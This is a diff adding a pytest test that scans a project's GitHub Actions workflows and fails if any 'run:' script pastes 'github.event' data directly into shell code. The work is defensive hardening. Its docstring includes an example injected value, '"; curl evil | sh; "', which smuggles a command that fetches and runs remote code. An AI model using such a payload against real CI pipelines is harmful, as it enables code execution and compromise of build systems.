@@ -107,6 +107,20 @@ def test_registry_workflow_listens_to_the_registry_hooks_event() -> None:
     assert on["repository_dispatch"]["types"] == [GitHubDispatchHook.event_type]
 
 
+def test_no_script_has_event_data_pasted_into_it() -> None:
+    """`${{ github.event... }}` in a `run:` is pasted into the script before the shell reads
+    it: a registry reason like `"; curl evil | sh; "` would run. Event data goes through
+    `env:` and is quoted there (GitHub's hardening guide)."""
+    checked = 0
+    for path in WORKFLOWS:
+        for job in workflow(path.name)["jobs"].values():
+            for step in job.get("steps", []):
+                script = step.get("run", "")
+                assert not re.search(r"\$\{\{[^}]*github\.event", script), (path.name, script)
+                checked += bool(script)
+    assert checked >= 10
+
+
 @pytest.mark.parametrize("tool", ["ruff"])
 def test_pre_commit_pins_match_the_project(tool: str) -> None:
     config = yaml.safe_load((REPO / ".pre-commit-config.yaml").read_text())
